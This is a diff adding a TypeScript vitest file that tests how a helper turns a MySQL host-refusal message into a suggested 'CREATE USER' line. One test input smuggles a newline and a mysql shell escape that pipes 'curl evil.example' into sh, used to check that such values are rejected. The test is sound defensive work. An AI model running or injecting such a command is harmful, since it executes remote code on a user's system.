@@ -1,0 +1,18 @@
+import { expect, test } from 'vitest';
+import { DbFailure } from './engine/db-failure.ts';
+import { lineToAdd } from './why-refused.ts';
+
+const refused = {
+  ...({ protocol: 'mysql', signIn: 'password', isEncrypted: true } as const),
+  ...{ dbUser: 'ann', dbName: 'shop', setPassword: '' },
+};
+const lineFor = (message: string) => lineToAdd(refused, new DbFailure('refused', message, { code: '1130' }));
+
+test('the address that a server names stands in the line to type', () => {
+  expect(lineFor("Host '10.0.0.7' is not allowed to connect")).toContain("CREATE USER 'ann'@'10.0.0.7' IDENTIFIED");
+  expect(lineFor("Access denied for user 'ann'@'db-1.example'")).toContain("'ann'@'db-1.example'");
+});
+
+test.each(['\\', '%\n\\! curl evil.example | sh #', ''])('what is no address does not: %j', (from) => {
+  expect(lineFor(`Host '${from}' is not allowed to connect`)).toContain("CREATE USER 'ann'@'%' IDENTIFIED");
+});
